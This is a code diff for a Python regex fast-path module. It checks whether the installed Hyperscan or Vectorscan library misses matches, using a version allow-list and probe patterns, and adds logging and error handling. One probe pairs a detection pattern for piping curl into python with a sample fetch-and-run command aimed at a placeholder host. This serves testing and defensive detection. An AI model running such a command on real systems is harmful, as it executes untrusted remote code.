@@ -3,11 +3,16 @@
 Expressions are written anew from the patterns' syntax trees, with every byte spelt out, so that nothing is left to what
 either engine means by a class. What cannot be written such that no match of RE2's is missed stays with RE2. A database
 takes seconds to compile, so it is kept on disk (`fastpath.store`), and compiled with the GIL released.
+
+A match that is missed is a rule that is evaded, so the engine has to be one of which that is known not to happen.
 """
 
 from __future__ import annotations
 
+import functools
 import hashlib
+import importlib
+import logging
 import re._constants as syntax  # type: ignore[import-not-found]
 import re._parser as parser  # type: ignore[import-not-found]
 import weakref
@@ -18,9 +23,8 @@ from typing import Any, ClassVar, Final
 
 from fastpath.store import Store
 
-hyperscan: Any
 try:
-    import hyperscan
+    hyperscan: Any = importlib.import_module("hyperscan")
 except ImportError:
     hyperscan = None
 
@@ -28,6 +32,8 @@ FORMAT: Final = 1
 # Databases on disk, those used last. One of 572 patterns has 4 MiB.
 MOST: Final = 32
 MAX_BYTES: Final = 64 << 20
+
+log = logging.getLogger(__name__)
 
 _FOLD: Final = int(syntax.SRE_FLAG_IGNORECASE)
 # Case, and what is so anyway: `.` is any byte.
@@ -53,9 +59,48 @@ _AT: Final = {
 }
 
 
-def installed() -> bool:
-    """The package is."""
-    return hyperscan is not None
+# Vectorscan, which newer packages hold, misses matches up to 5.4.12 at least (its issues 358, 382).
+SOUND: Final = ("5.4.2",)
+# Patterns, and a text that each of them matches at its end: what Vectorscan misses, after some number of other bytes.
+_PROBES: Final = (
+    ((rb"curl.*\|\s*python",), b"curl http://a.example/ 2>&1 | python"),
+    ((rb"ab$|cd",), b"cd"),
+    ((rb"ab\b|cd",), b"cd"),
+    ((rb"(?:--|#)\s*$",), b"-- "),
+    ((rb"x\d|a\w", rb"[a-z]x\d|b"), b"ax1"),
+    ((rb"cdeq.*x|ab", rb"ab"), b"ab"),
+)
+
+
+@functools.cache
+def unusable() -> str:
+    """Why Hyperscan is not to be used; nothing if it is."""
+    return doubts()
+
+
+def doubts() -> str:
+    """The same, looked for anew."""
+    if hyperscan is None:
+        return "hyperscan is not installed (the package's extra of that name)"
+    try:
+        version = library_version()
+        if version not in SOUND:
+            return f"hyperscan's library {version} may miss matches; {', '.join(SOUND)} does not"
+        for regexes, ending in _PROBES:
+            written = {n: expression_of(regex, fold=False) for n, regex in enumerate(regexes)}
+            database = Database(_compile({n: each.text for n, each in written.items() if each}), frozenset(written))
+            if any(set(database.scan(b"." * size + ending)) != set(written) for size in range(100)):
+                return "hyperscan misses matches on this machine"
+    except hyperscan.error as error:
+        return f"hyperscan does not work on this machine: {error}"
+    return ""
+
+
+@functools.cache
+def library_version() -> str:
+    """Of the library, not of the package around it."""
+    info: str = _compile({0: "a"}).info().decode()
+    return info.partition("Version: ")[2].partition(" ")[0]
 
 
 @dataclass(frozen=True, slots=True)
@@ -164,7 +209,7 @@ class Databases:
         texts = {number: each.text for number, each in expressions.items()}
         if not texts:
             return None
-        key = hashlib.sha256(repr((FORMAT, hyperscan.__version__, sorted(texts.items()))).encode()).hexdigest()
+        key = hashlib.sha256(repr((FORMAT, library_version(), sorted(texts.items()))).encode()).hexdigest()
         found = self._known.get(key) or self._stored(key) or self._made(key, texts)
         if found is not None:
             self._known[key] = found
@@ -183,18 +228,26 @@ class Databases:
     def _made(self, key: str, texts: Mapping[int, str]) -> Database | None:
         taken = dict(texts)
         try:
-            compiled = _compile(taken)
-        except hyperscan.error:
-            # Some are too large for it: RE2 has them.
-            taken = {number: text for number, text in texts.items() if _takes(text)}
-            if not taken:
-                return None
-            compiled = _compile(taken)
-        database = Database(compiled, frozenset(taken))
+            try:
+                compiled = _compile(taken)
+            except hyperscan.error:
+                # Some are too large for it: RE2 has them.
+                taken = {number: text for number, text in texts.items() if _takes(text)}
+                if not taken:
+                    return None
+                compiled = _compile(taken)
+            database = Database(compiled, frozenset(taken))
+        except hyperscan.error as error:
+            log.warning("patterns are looked for without hyperscan: %s", error)
+            return None
         if self._store is not None:
             numbers = " ".join(map(str, sorted(taken))).encode()
             self._store.keep(key, numbers + b"\n" + bytes(hyperscan.dumpb(compiled)))
         return database
+
+
+class EngineError(Exception):
+    """It did not look."""
 
 
 class Database:
@@ -205,14 +258,17 @@ class Database:
         self._compiled = compiled
         self.taken = taken
 
-    def scan(self, text: bytes) -> list[tuple[int, int]]:
-        """(number, where its first match ends) of those that the text contains."""
-        found: list[tuple[int, int]] = []
+    def scan(self, text: bytes) -> list[int]:
+        """Numbers of those that the text contains. EngineError."""
+        found: list[int] = []
 
-        def note(number: int, _begin: int, end: int, _flags: int, _context: object) -> None:
-            found.append((number, end))
+        def note(number: int, _begin: int, _end: int, _flags: int, _context: object) -> None:
+            found.append(number)
 
-        self._compiled.scan(text, match_event_handler=note)
+        try:
+            self._compiled.scan(text, match_event_handler=note)
+        except hyperscan.error as error:
+            raise EngineError(str(error)) from None
         return found
 
 
